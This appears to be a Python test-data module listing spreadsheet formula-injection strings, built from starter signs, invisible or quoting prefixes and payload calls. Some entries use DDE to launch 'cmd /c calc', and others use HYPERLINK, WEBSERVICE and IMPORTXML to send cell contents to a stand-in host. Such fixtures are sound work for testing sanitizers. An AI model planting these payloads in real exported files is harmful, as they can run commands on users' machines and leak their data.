"""Texts that a spreadsheet may run as formulas: a list of our own."""

from __future__ import annotations

__all__ = ["FORMULAS", "STARTERS"]

# Plain and full-width signs, as a Japanese keyboard writes them; small and superscript forms are none.
STARTERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
_HEADS = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    "''",
    '" ',
    "`",
    "‘",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
]
_HEADS += ["\x00", "\u202e", "\t\t", "'\t", '="" & ']
_CALLS = [
    "cmd|'/c calc'!A0",
    '=HYPERLINK("https://x.invalid/?"&A1,"open")',
    '=IMPORTXML("https://x.invalid","//a")',
    '=WEBSERVICE("https://x.invalid/"&A1)',
    '=IMAGE("https://x.invalid/a.png")',
    "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+A1+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "{=1+1}",
    "=1+1\",=1+1",
    '=1+1"\r\n=1+1',
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "=-1",
    "=+1",
    "-1",
    "+1",
    "1e5",
    "=",
    "'=1+1",
]  # fmt: skip
FORMULAS = [*(f"{head}{starter}1+1" for head in _HEADS for starter in STARTERS), *_CALLS]
